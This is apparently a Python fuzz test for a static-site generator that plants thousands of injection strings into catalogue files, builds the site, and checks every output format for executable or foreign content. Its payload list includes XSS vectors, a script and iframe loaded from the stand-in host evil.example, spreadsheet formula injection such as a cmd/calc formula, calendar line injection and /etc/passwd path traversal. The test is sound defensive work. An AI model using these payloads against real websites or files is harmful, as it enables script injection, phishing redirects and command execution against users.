"""Whether words of a record can become anything but words, wherever they come out.

One input is a list of attacks, one for every text of every file of a whole catalogue, settings too. Those that the check accepts
stay; then the site is built, and everything that it holds is read back: pages, data, feeds, calendars, tables, texts for
assistants, the comparison, the report.
"""

import copy
import csv
import io
import json
import re
import shutil
from collections.abc import Iterator, Mapping
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path
from random import Random
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

from conftest import TODAY
from fuzz.law import Way, leaves_of, make_project, read_values, write_values
from niemyet.building.checking import check_catalogue
from niemyet.building.pipeline import BuildRequest, build_site
from niemyet.changes.catalogues import compare_catalogues
from niemyet.changes.markdown import format_markdown
from niemyet.diagnostics.diagnostic import Place, Severity
from niemyet.diagnostics.formats import FORMATS
from niemyet.diagnostics.rulebook import severity_of
from niemyet.load.nodes import Node, parse_document
from niemyet.load.texts import SourceText
from niemyet.model.data_parts import DATA_PARTS
from niemyet.model.kinds import kind_of
from niemyet.own_frames import begin_own_frames
from niemyet.validate.entries import check_entry
from niemyet.validate.shapes import SHAPES

HOST = "evil.example"
BEFORE = (
    "", '"', "'", '">', "'>", "</title>", "</script>", "</textarea>", "</style>", "-->", "]]>", "*/", "\\", "\\\"", "`",
    "%}", "}}", "&quot;>", "\n", "\r\n", "\u2028", "\t", "a\n\n", "|", ")", "](", "}", "#", "$", "=", "-", "@", "+", "%0a",
)  # fmt: skip
VECTORS = (
    "<script>alert(1337)</script>", f"<script src=//{HOST}/a.js></script>", "<img src=x onerror=alert(1337)>",
    "<svg onload=alert(1337)>", "<svg><script>alert(1337)</script></svg>", f"<iframe src=//{HOST}></iframe>",
    f"<base href=//{HOST}/>", f"<link rel=stylesheet href=//{HOST}/a>",
    f'<meta http-equiv=refresh content="0;url=//{HOST}">', f"<form action=//{HOST}><button>x</button></form>",
    "<style>*{display:none}</style>", " onmouseover=alert(1337) x=", " autofocus onfocus=alert(1337) ",
    " style=position:fixed ", "<math><mi xlink:href=javascript:alert(1337)>", "javascript:alert(1337)",
    "java\tscript:alert(1337)", "data:text/html,<script>alert(1337)</script>", "{{ 7*191 }}", "{% raw %}", "${7*191}",
    "#{7*191}", "<%= 7*191 %>", f"[x](http://{HOST}/a)", f"![x](http://{HOST}/a.png)", f"<http://{HOST}/>",
    f"[x]: http://{HOST}/", "@everyone", f"=HYPERLINK(\"http://{HOST}\")", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)",
    "\nX-EVIL:1", "\nEND:VCALENDAR", "\n::error::x", "\x1b[31mx", "#let x = 1; #panic(x)", "#image(\"/etc/passwd\")",
    "$ sum $", "<!--", "<![CDATA[", "<?php x ?>", "&lt;script&gt;alert(1337)&lt;/script&gt;", "&#60;script&#62;",
    "\u202escript", "\uff1cscript\uff1e", "niemyet-mark-content-here", "../../../etc/passwd", "file:///etc/passwd",
    "# Tiêu đề khác",
)  # fmt: skip
AFTER = ("", "//", "<!--", '"', " ", "'--")
ATTACKS = tuple(before + vector + after for after in AFTER for before in BEFORE for vector in VECTORS)
"""More than five thousand."""
ELEMENTS = frozenset({"iframe", "object", "embed", "style", "base", "frame", "applet", "math", "portal"})
RUNS = re.compile(r"[\x00-\x20]*(?:javascript|vbscript|data):", re.IGNORECASE)
OURS = re.compile(r"(?:\.\./)*assets/[\w-]+\.js|/assets/[\w-]+\.js")
LINES_OF_CALENDARS = re.compile(r"(?:BEGIN|END|VERSION|PRODID|[A-Z][A-Z-]*)(?:;[^:]*)?:|[ \t]")


def _files(root: Path) -> list[str]:
    found = (path.relative_to(root).as_posix() for path in sorted(root.rglob("*")) if path.is_file())
    return [path for path in found if path.endswith((".yaml", ".md")) or path == "mkdocs.yml"]


def make_attacks(random: Random) -> bytes:
    """A number from which the attack of every text follows."""
    return str(random.randrange(10**9)).encode()


def plant(data: bytes, before: Path, root: Path) -> int:
    """Puts attacks into the texts of a copy of the catalogue, as far as the check lets them in; how many those are."""
    shutil.rmtree(root, ignore_errors=True)
    shutil.copytree(before, root)
    number = int(data)
    random = Random(number)
    read = {path: read_values(path, (root / path).read_bytes().decode()) for path in _files(root)}
    attacks: dict[str, dict[Way, str]] = {}
    for path, (values, body) in read.items():
        ways = list(leaves_of(values))
        given = {way: ATTACKS[(number + at * 7919) % len(ATTACKS)] for at, way in enumerate(ways)}
        attacks[path] = {way: one for way, one in given.items() if way and _may_be(path, values, body, way, one)}
        number += len(ways)
    while True:
        for path, (values, body) in read.items():
            text = write_values(path, _put(values, attacks[path]), body) if attacks[path] else ""
            (root / path).write_bytes(text.encode("utf-8", "surrogatepass") or (before / path).read_bytes())
        told = [one for one in check_catalogue(root, TODAY).diagnostics if severity_of(one) is Severity.ERROR]
        if not told:
            return sum(map(len, attacks.values()))
        _take_back(root, [one.place for one in told], attacks, random)


def _take_back(root: Path, places: list[Place], attacks: dict[str, dict[Way, str]], random: Random) -> None:
    """The attacks on the lines of errors; where none is there, half of those of the files with errors, or of all."""
    wrong = {(place.file, place.line) for place in places}
    at_lines = [(path, way) for path, given in attacks.items() for way in given if (path, _line_of(root, path, way)) in wrong]
    if not at_lines:
        files = {place.file for place in places if attacks.get(place.file)} or {path for path in attacks if attacks[path]}
        at_lines = [
            (path, way) for path in sorted(files) for way in random.sample(list(attacks[path]), -(-len(attacks[path]) // 2))
        ]
    for path, way in at_lines:
        del attacks[path][way]


def _line_of(root: Path, path: str, way: Way) -> int:
    return _lines(path, (root / path).read_bytes()).get(way, 0)


@lru_cache(maxsize=100)
def _lines(path: str, data: bytes) -> dict[Way, int]:
    """The line of each text of a file."""
    text = data.decode("utf-8", "replace")
    first = 2 if path.endswith(".md") else 1
    document, _ = parse_document(SourceText(path, text), text.split("---\n", 2)[1] if first == 2 else text, first)
    found: dict[Way, int] = {}
    stack: list[tuple[Way, Node]] = [((), document.root)] if document is not None else []
    while stack:
        way, node = stack.pop()
        if isinstance(node.value, str):
            found[way] = node.line + first - 1
        else:
            below = node.value.items() if isinstance(node.value, dict) else enumerate(node.value)
            stack += [((*way, step), one) for step, one in below]
    return found


def _may_be(path: str, values: Any, body: str, way: Way, attack: str) -> bool:
    """Whether a record may have this text there, as far as it alone tells."""
    kind = "settings" if path == "mkdocs.yml" else kind_of(path)
    if kind is None or kind not in SHAPES:
        return True
    text = write_values("a.yaml", _put(values, {way: attack}), "")
    document, told = parse_document(SourceText(path, text))
    return document is not None and not told and (kind == "settings" or check_entry(document, kind)[0] is not None)


def _put(values: Any, attacks: Mapping[Way, str]) -> Any:
    changed = copy.deepcopy(values)
    for way, attack in attacks.items():
        parent = changed
        for step in way[:-1]:
            parent = parent[step]
        parent[way[-1]] = attack
    return changed


def attack(data: bytes, scratch: Path) -> bool:
    """Plants, builds, and reads everything back; whether anything could be planted."""
    before, root, site = scratch / "before", scratch / "evil", scratch / "site"
    if not before.is_dir():
        make_project(before)
    planted = plant(data, before, root)
    built = build_site(BuildRequest(root, TODAY, begin_own_frames(root / "mkdocs.yml"), open_data=DATA_PARTS), site, forget=True)
    assert built.report.errors == 0, built.report.diagnostics
    for file in sorted(path for path in site.rglob("*") if path.is_file()):
        look_at_file(file)
    told = format_markdown(compare_catalogues(before, root, TODAY))
    assert (
        not re.search(r"(?<!\\)<(?!!-- -->)", told)
        and not re.search(r"(?<!\\)\]\(http", told)
        and not re.search(r"@(?!<!--)", told)
    )
    for write in FORMATS.values():
        assert not re.search(
            r"[\x00-\x08\x0b-\x1f\x7f-\x9f]|^::error::", write(check_catalogue(root, TODAY), "vi", False), re.MULTILINE
        )
    return planted > 0


def look_at_file(file: Path) -> None:
    """That it holds nothing but what it is for."""
    text = (
        file.read_bytes().decode() if file.suffix in (".html", ".json", ".xml", ".csv", ".ics", ".txt", ".md", ".geojson") else ""
    )
    match file.suffix:
        case ".html":
            look_at_page(file.name, text)
        case ".json" | ".geojson":
            json.loads(text)
        case ".xml":
            look_at_feed(text)
        case ".csv":
            assert not [
                cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.lstrip()[:1] in tuple("=+@\t\r") and cell
            ]
        case ".ics":
            assert all(LINES_OF_CALENDARS.match(line) and len(line.encode()) <= 75 for line in text.split("\r\n") if line), file
            assert "\nX-EVIL" not in text and text.count("END:VCALENDAR\r\n") == 1 and "\n" not in text.replace("\r\n", "")
        case ".txt" | ".md":
            assert "\nX-EVIL" not in text and "\n::error" not in text and not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", text), file


def look_at_feed(text: str) -> None:
    """Well-formed, and no element of HTML stands in it as such."""
    for element in ElementTree.fromstring(text).iter():
        assert element.tag.startswith(("{http://www.w3.org/2005/Atom}", "{http://www.sitemaps.org/", "{http", "OpenSearch")), (
            element.tag
        )
        assert "xhtml" not in element.tag or element.tag.endswith("}link"), element.tag
        assert not RUNS.match(element.get("href", ""))


class _Reader(HTMLParser):
    """Every element with its attributes, and what stands in scripts that are data."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.data: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        if self.elements and self.elements[-1][0] == "script":
            self.data.append(data)


def look_at_page(name: str, text: str) -> None:
    """No element, attribute or address that runs or comes from elsewhere; blocks of data are data."""
    reader = _Reader(text)
    for tag, attributes in reader.elements:
        assert tag not in ELEMENTS, (name, tag)
        assert not any(key.startswith("on") for key in attributes), (name, tag, attributes)
        if tag == "script" and attributes.get("type") not in ("application/json", "application/ld+json"):
            assert OURS.fullmatch(attributes.get("src") or ""), (name, attributes)
        for key, value in _addresses(attributes):
            assert not RUNS.match(re.sub(r"[\t\n\r]", "", value)) or (tag, value[:11]) == ("img", "data:image/"), (
                name,
                tag,
                key,
                value,
            )
            if tag != "a" and key != "content":
                assert urlsplit(value).netloc in ("", "niemyet.example") or tag in ("link", "meta", "form"), (name, tag, value)
            assert HOST not in value or tag == "a", (name, tag, value)
    assert text.count("<title>") == 1 and "1337)</title>" not in text
    assert "1337" not in text.replace("alert(1337)", ""), name  # 7 times 191
    for data in reader.data:
        if data.strip().startswith(("{", "[")):
            json.loads(data)


def _addresses(attributes: dict[str, str | None]) -> Iterator[tuple[str, Any]]:
    for key in ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"):
        if value := attributes.get(key):
            yield key, value
